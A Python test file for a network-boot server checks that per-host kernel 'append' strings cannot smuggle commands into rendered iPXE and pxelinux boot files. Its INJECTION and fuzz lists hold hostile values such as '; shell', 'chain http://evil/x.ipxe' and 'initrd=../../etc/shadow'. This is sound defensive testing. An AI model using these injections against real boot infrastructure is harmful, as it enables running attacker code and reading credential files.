"""Issue 14 item 12: an ``append`` cannot change what a rendered boot file does.

Each rendered document is PARSED here by a small tokenizer that follows the
real reader's rules (read in the readers' sources, cited per function), and
the kernel command line the boot loader would hand to Linux must be exactly
the intended arguments -- or the append is refused at inventory load, by
``Host``/``Profile`` (what ``sidusctl hosts add`` builds) and by the config's
``images.*.append``, with the key and the reason.
"""

from __future__ import annotations

import dataclasses
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from sidusd import config
from sidusd.boot import render
from sidusd.boot.inventory import Host, Inventory, Profile, parse_inventory
from sidusd.errors import ConfigError

CFG = config.parse("""
dhcp: {mode: proxy, interfaces: [eth1]}
tftp: {root: /srv/tftp}
images:
  demo: {root: /srv/images/demo, kernel: demo/vmlinuz, initrd: demo/initrd.img, append: console=ttyS0}
""")
INV = Inventory({"default": Profile("default", "demo", "tmpfs", "quiet")}, {})
MAC = "52:54:00:00:00:02"
CTX = render.RenderContext(server_ip="10.0.0.1", nfs_server="10.0.0.2", http_base="http://10.0.0.1:8080")
IPXE_SETTINGS = {"netX/mac:hexhyp": "52-54-00-00-00-02"}


# -- the readers ------------------------------------------------------------------

def _c_isspace(c: str) -> bool:
    return c in " \t\n\v\f\r"


def ipxe_lines(script: str) -> list[str]:
    """iPXE ``process_script`` (src/image/script.c): lines at \\n, one trailing \\r dropped,
    a trailing backslash joins the next line; ``:label`` lines keep only their command."""
    out, buf = [], ""
    for raw in script.split("\n")[:-1] if script.endswith("\n") else script.split("\n"):
        line = buf + raw
        if line.endswith("\r"):
            line = line[:-1]
        if line.endswith("\\"):
            buf = line[:-1]
            continue
        buf = ""
        cmd = line.lstrip(" \t\n\v\f\r")
        if cmd.startswith(":"):
            cmd = re.sub(r"^:\S*\s?", "", cmd)
        out.append(cmd)
    return out


def ipxe_expand(token: str, settings: dict[str, str]) -> str:
    """``expand_settings`` (src/core/settings.c): the innermost ``${name}`` first, until none is left;
    an unknown setting is empty."""
    while True:
        start = end = None
        for i in range(len(token)):
            if token[i] == "$" and token[i + 1:i + 2] == "{":
                start = i
            if start is not None and token[i] == "}":
                end = i
                break
        if end is None or start is None:
            return token
        token = token[:start] + settings.get(token[start + 2:end], "") + token[end + 1:]


def ipxe_commands(line: str, settings: dict[str, str]) -> list[list[str]]:
    """``system`` (src/core/exec.c): white-space tokens (no quoting), a token starting with '#'
    ends the line, '||' '&&' ';' separate commands; every token expanded."""
    tokens: list[str] = []
    cur = ""
    for c in line:
        if _c_isspace(c):
            if cur:
                tokens.append(cur)
            cur = ""
        else:
            cur += c
    if cur:
        tokens.append(cur)
    commands, argv = [], []
    for t in tokens:
        if t.startswith("#"):
            break
        if t in ("||", "&&", ";"):
            commands.append(argv)
            argv = []
            continue
        argv.append(ipxe_expand(t, settings))
    commands.append(argv)
    return [c for c in commands if c]


def ipxe_image_cmdline(argv: list[str]) -> tuple[str, str]:
    """``kernel [--opts] <uri> [<args>...]``: getopt (src/core/getopt.c) stops at the first token
    not starting with '-'; the rest joined with one space (``concat_args``)."""
    assert argv[0] == "kernel"
    i = 1
    while i < len(argv) and argv[i].startswith("-"):
        i += 1
    return argv[i], " ".join(argv[i + 1:])


def pxelinux_directives(doc: str) -> list[tuple[str, str]]:
    """syslinux ``parse_config_file`` (com32/elflink/ldlinux/readconfig.c): fgets lines of at most
    MAX_LINE-1 bytes, cut at the first \\r and \\n, leading spaces skipped; the keyword is the first
    word (case-insensitive), the rest after spaces is its argument, verbatim."""
    out = []
    for line in doc.split("\n"):
        assert len(line) < 4095, "fgets would split this line in two"
        line = line.split("\r", 1)[0].lstrip(" \t")
        if not line:
            continue
        word = line.split(None, 1)
        out.append((word[0].upper(), line[len(word[0]):].lstrip(" \t")))
    return out


def linux_params(line: str) -> list[tuple[str, str | None]]:
    """Linux ``next_arg`` (lib/cmdline.c): (param, value) with the quotes removed as it does."""
    params = []
    args = line.lstrip()
    while args:
        quoted = in_quote = args.startswith('"')
        if quoted:
            args = args[1:]
        i, equals = 0, 0
        while i < len(args) and (in_quote or not args[i].isspace()):
            if equals == 0 and args[i] == "=":
                equals = i
            if args[i] == '"':
                in_quote = not in_quote
            i += 1
        word = args[:i]
        if quoted and word.endswith('"'):
            word = word[:-1]
        if equals:
            param, val = word[:equals], word[equals + 1:]
            if val.startswith('"'):
                val = val[1:]
                if val.endswith('"') and not quoted:
                    val = val[:-1]
            params.append((param, val))
        else:
            params.append((word, None))
        args = args[i + 1:].lstrip()
    return params


# -- what the documents say ----------------------------------------------------------

def _target(append: str):
    inv = INV.with_host(Host(MAC, "default", append=append))
    return inv.resolve(MAC, CFG)


def ipxe_kernel_params(target) -> list[tuple[str, str | None]]:
    lines = ipxe_lines(render.ipxe_script(target, CTX).decode("ascii"))
    assert lines[0] == "#!ipxe"
    commands = [c for line in lines for c in ipxe_commands(line, IPXE_SETTINGS)]
    assert [c[0] for c in commands] == ["kernel", "initrd", "boot"], commands
    uri, line = ipxe_image_cmdline(commands[0])
    assert uri == "http://10.0.0.1:8080/demo/vmlinuz"
    return linux_params(line)


def pxelinux_kernel_params(target) -> list[tuple[str, str | None]]:
    d = pxelinux_directives(render.pxelinux_config(target, CTX).decode("ascii"))
    assert [k for k, _ in d if not k.startswith("#")] == [
        "DEFAULT", "PROMPT", "TIMEOUT", "LABEL", "KERNEL", "APPEND", "IPAPPEND"], d
    assert dict(d)["KERNEL"] == "demo/vmlinuz"
    return linux_params(dict(d)["APPEND"])


def intended(append: str) -> list[tuple[str, str | None]]:
    fixed = ("root=/dev/nfs boot=nfs nfsroot=10.0.0.2:/srv/images/demo,tcp,vers=3 ip=dhcp "
             "sidus.overlay=tmpfs console=ttyS0 quiet")
    return linux_params(fixed) + linux_params(append)


def check_documents(append: str) -> None:
    target = _target(append)
    want = intended(append)
    assert ipxe_kernel_params(target) == [("initrd", "initrd.img")] + want + [("BOOTIF", "01-52-54-00-00-00-02")]
    assert pxelinux_kernel_params(target) == [("initrd", "demo/initrd.img")] + want


# -- tests ---------------------------------------------------------------------------

INJECTIONS = [
    "console=ttyS0 ; shell",                 # the reported one: ';' ends iPXE's kernel command
    "quiet #",                               # the rest of the kernel line (BOOTIF) becomes a comment
    "a #x chain http://evil/",
    "x=1 ; chain http://evil/x.ipxe",
    'dyndbg="a',                             # unclosed quote: Linux joins BOOTIF into this value
    'x="a  b"',                              # iPXE joins its words with one space: the value changes
    "initrd=../../etc/shadow",               # pxelinux / the EFI stub would load another file
    '"initrd=x"',
]


@pytest.mark.parametrize("append", INJECTIONS)
def test_injection_is_refused_with_the_key_and_the_reason(append):
    with pytest.raises(ConfigError) as e:
        Host(MAC, "default", append=append)
    assert e.value.path == "host.append" and e.value.reason
    quoted = config.dump_yaml(append).strip().removesuffix("...").strip()
    with pytest.raises(ConfigError) as e:
        parse_inventory("profiles: {default: {image: demo}}\n"
                        f"hosts: [{{mac: '{MAC}', profile: default, append: {quoted}}}]\n")
    assert e.value.path == "hosts[0].append", e.value.path
    with pytest.raises(ConfigError) as e:
        Profile("p", "demo", append=append)
    assert e.value.path == "profile.append"
    with pytest.raises(ConfigError) as e:
        config.parse("dhcp: {mode: off}\ntftp: {root: /t}\n"
                     f"images: {{d: {{root: /i, kernel: k, initrd: i, append: {quoted}}}}}\n")
    assert e.value.path == "images.d.append"


@pytest.mark.parametrize("append", INJECTIONS)
def test_renderer_refuses_a_hand_built_target_too(append):
    target = dataclasses.replace(_target(""), append=append)
    for fn in (render.ipxe_script, render.pxelinux_config, render.kernel_cmdline):
        with pytest.raises(render.RenderError):
            fn(target, CTX)


def test_the_reported_injection_would_run_shell_in_ipxe():
    """The tokenizer itself: the old renderer's output for the reported append runs ``shell``."""
    line = ("kernel http://s/k initrd=i root=/dev/nfs console=ttyS0 ; shell BOOTIF=01-${netX/mac:hexhyp}")
    assert [c[0] for c in ipxe_commands(line, IPXE_SETTINGS)] == ["kernel", "shell"]
    assert ipxe_commands("kernel u a #c x", {}) == [["kernel", "u", "a"]]
    assert ipxe_commands("kernel u a${x}b&&boot", {"x": "1"}) == [["kernel", "u", "a1b&&boot"]]


@pytest.mark.parametrize("append", [
    "", "quiet", "console=ttyS0,115200n8 systemd.unit=rescue.target", 'dyndbg="file x.c +p"',
    'a=" x " b', "x;y a#b", "sidus.marker=one", "-- single", '"quoted param=1"', "a=b=c", "~!%'()*+,-./:<>?@[]^_`{}",
])
def test_ordinary_appends_reach_linux_exactly(append):
    check_documents(append)


FRAGMENTS = ["; ", " ;", "#", " #", "||", "&&", '"', ' "', "${", "}", "$", "\\", "\n", "\r", "\t", "  ",
             "initrd=", "BOOTIF=", "=", " ", "a", "console=ttyS0", "shell", "chain http://e/", ":x", "-",
             "--", "'", "\x00", "\x85", "é", "|", "&"]


@settings(max_examples=600, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=4), max_size=12).map("".join))
@example("console=ttyS0 ; shell")
@example("a #")
def test_hostile_appends_are_refused_or_reach_linux_exactly(append):
    try:
        Host(MAC, "default", append=append)
    except ConfigError as e:
        assert e.path == "host.append" and e.reason
        return
    check_documents(append)


def test_linux_words_matches_the_kernel_split():
    from sidusd.boot import cmdline
    assert cmdline.linux_words('a "b c" d="e f"g h') == ["a", '"b c"', 'd="e f"g', "h"]
    assert linux_params('a "b c" d="e f" x="y') == [("a", None), ("b c", None), ("d", "e f"), ("x", "y")]
